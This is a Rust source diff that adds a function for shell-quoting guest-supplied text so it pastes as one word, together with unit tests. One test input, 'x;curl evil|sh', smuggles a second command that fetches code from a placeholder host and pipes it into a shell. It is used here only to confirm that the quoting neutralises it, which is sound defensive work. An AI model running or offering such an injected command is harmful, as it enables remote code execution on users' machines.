@@ -11,6 +11,15 @@ pub(super) fn lines(text: &str) -> String {
     clean(text, true)
 }
 
+/// A value that a person can paste into a shell as one word, whatever a guest put into it.
+pub(super) fn shell_word(text: &str) -> String {
+    let plain = |c: char| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.' | ':' | '/' | '=' | '+' | ',');
+    if !text.is_empty() && text.chars().all(plain) {
+        return text.to_owned();
+    }
+    format!("'{}'", one_line(text).replace('\'', "'\\''"))
+}
+
 fn clean(text: &str, keep_lines: bool) -> String {
     text.chars()
         .flat_map(|c| {
@@ -29,6 +38,13 @@ fn is_hidden(c: char) -> bool {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn a_pasted_word_is_one_word() {
+        assert_eq!(shell_word("draft_2"), "draft_2");
+        assert_eq!(shell_word("x;curl evil|sh"), "'x;curl evil|sh'");
+        assert_eq!(shell_word("it's"), "'it'\\''s'");
+    }
 
     #[test]
     fn escapes_are_shown_and_not_obeyed() {
